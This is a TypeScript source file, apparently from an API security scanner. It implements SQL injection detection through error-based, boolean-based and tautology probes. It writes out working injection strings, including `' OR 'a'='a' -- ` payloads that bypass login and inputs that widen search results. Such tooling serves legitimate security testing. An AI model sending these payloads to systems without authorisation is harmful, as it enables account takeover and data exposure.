import { answerLeaves } from '../../http/exchange.ts';
import { tokenIn } from '../../identity/login.ts';
import { accepted, sameAnswer } from '../../learn/verdict.ts';
import type { Exchange } from '../../model.ts';
import { authStep } from '../../spec/names.ts';
import type { OperationCheck, Proof } from '../check.ts';
import { mayVary, type Target, takesText, targetsOf } from '../injection.ts';
import { SQL_ERROR } from './grammar.ts';
import { meta } from './meta.ts';
import { waits } from './waits.ts';

export const sqlInjection: OperationCheck = {
  meta,
  scope: 'operation',
  parallel: true,
  applies: mayVary,
  async run(scan, operation) {
    const proofs: Proof[] = [];
    for (const target of targetsOf(scan, operation)) {
      const seen = await look(target, scan.destructive);
      if (seen !== null) proofs.push({ operation, point: target.point.address, reasons: seen.reasons, evidence: seen.evidence });
    }
    return proofs;
  },
};

interface Seen {
  readonly reasons: string[];
  readonly evidence: Exchange[];
}

/** Collects independent proofs; fewer than two say nothing, unless the time says it: that is six answers that agree. */
async function look(target: Target, mayWait: boolean): Promise<Seen | null> {
  const { text, point } = target;
  const base = await target.send(point.value);
  if (base.status === 0 || base.status === 429) return null;
  const quote = await target.send(`${text}'`);
  const seen: Seen = { reasons: [], evidence: [] };
  const add = (reason: string, ...exchanges: Exchange[]): void => {
    seen.reasons.push(reason);
    seen.evidence.push(...exchanges);
  };
  const error = SQL_ERROR.exec(quote.body);
  const breaks = quote.status >= 500 && base.status < 500;
  const reacts = error !== null || breaks || !sameAnswer(base, quote);
  if (error !== null && !SQL_ERROR.test(base.body)) {
    const control = await target.send(`${text}\u00a7`);
    if (!SQL_ERROR.test(control.body))
      add(`a quote causes a database error (${error[0].slice(0, 60)}) that an odd character does not`, quote);
  }
  if (error !== null || breaks) {
    const pair = await target.send(`${text}''`);
    if (pair.status < 500 && !SQL_ERROR.test(pair.body))
      add(`a balanced pair of quotes is taken (status ${pair.status} after ${quote.status})`, quote, pair);
  }
  if (reacts && accepted(base)) await conditions(target, base, add);
  if (authStep(target.ground.operation) === 'login') await signsIn(target, add);
  else if (seen.reasons.length < 2 && target.ground.operation.method === 'GET') await widens(target, add);
  if (seen.reasons.length >= 2) return seen;
  // Blind: nothing is shown, so time has to tell. Texts and numbers that might be part of a statement only, for it takes long.
  const wait = mayWait && (takesText(point) || typeof point.value === 'number') ? await waits(target) : null;
  return wait === null ? null : { reasons: [...seen.reasons, wait.reason], evidence: [...seen.evidence, ...wait.evidence] };
}

type Add = (reason: string, ...exchanges: Exchange[]) => void;

/** True conditions answer like the honest value, false ones do not, a nonsense operator does not either. */
async function conditions(target: Target, base: Exchange, add: Add): Promise<void> {
  const { text } = target;
  const numeric = /^-?\d+$/.test(text);
  const ways: ((left: string, right: string) => string)[] = [(left, right) => `${text}' AND '${left}'='${right}`];
  if (numeric) ways.unshift((left, right) => `${text} AND ${left.length * 31}=${right.length * 31}`);
  for (const way of ways) {
    const first = await target.send(way('spa', 'spa'));
    if (!sameAnswer(base, first)) continue;
    const nonsense = await target.send(way('spa', 'spa').replace(' AND ', ' XND '));
    if (sameAnswer(base, nonsense)) return;
    let last: Exchange | null = null;
    for (const literal of ['spa', 'spbb', 'spccc']) {
      const yes = await target.send(way(literal, literal));
      const no = await target.send(way(literal, `${literal}x`));
      if (!sameAnswer(base, yes) || sameAnswer(base, no)) return;
      last = no;
    }
    add('true conditions answer like the honest value and false ones do not, with three literals', first, last!);
    add('the same text with an operator that does not exist is not taken like it', nonsense);
    return;
  }
  const joined = await target.send(numeric ? `${text}-0` : `${text}'||'`);
  const broken = await target.send(numeric ? `${text}-x` : `${text}'|x|'`);
  if (sameAnswer(base, joined) && !sameAnswer(base, broken))
    add(`an expression that changes nothing is computed (${numeric ? '-0' : "'||'"})`, joined, broken);
}

/** A sign-in without the password. */
async function signsIn(target: Target, add: Add): Promise<void> {
  const enters = (exchange: Exchange): boolean =>
    accepted(exchange) && (tokenIn(exchange) !== null || exchange.headers['set-cookie'] !== undefined);
  for (const end of [' -- ', '#', '']) {
    const yes = (literal: string): string => (end === '' ? `sp' OR '${literal}'='${literal}` : `sp' OR '${literal}'='${literal}'${end}`);
    const first = await target.send(yes('a'));
    if (!enters(first)) continue;
    const no = await target.send(yes('a').replace("'a'='a", "'a'='b"));
    const second = await target.send(yes('bcd'));
    if (enters(no) || !enters(second)) return;
    add('a condition that is always true signs in without a password, twice', first, second);
    add('one that is always false does not', no);
    return;
  }
}

/** A search that finds nothing finds everything with a true condition. */
async function widens(target: Target, add: Add): Promise<void> {
  const size = (exchange: Exchange): number => (accepted(exchange) ? answerLeaves(exchange).length : 0);
  const none = await target.send('spzzqx');
  for (const end of ['', ' -- ', "') -- ", '%']) {
    const condition = (left: string, right: string): string => {
      if (end === '') return `spzzqx' OR '${left}'='${right}`;
      return end === '%' ? `spzzqx%' OR '${left}'='${right}' -- ` : `spzzqx' OR '${left}'='${right}'${end}`;
    };
    const yes = await target.send(condition('a', 'a'));
    if (size(yes) < size(none) + 2) continue;
    const no = await target.send(condition('a', 'b'));
    const again = await target.send(condition('bcd', 'bcd'));
    if (size(no) > size(none) || size(again) < size(none) + 2) return;
    add(`a true condition finds ${size(yes)} values where the honest text finds ${size(none)}, twice`, yes, again);
    add('a false condition finds no more', no);
    return;
  }
}
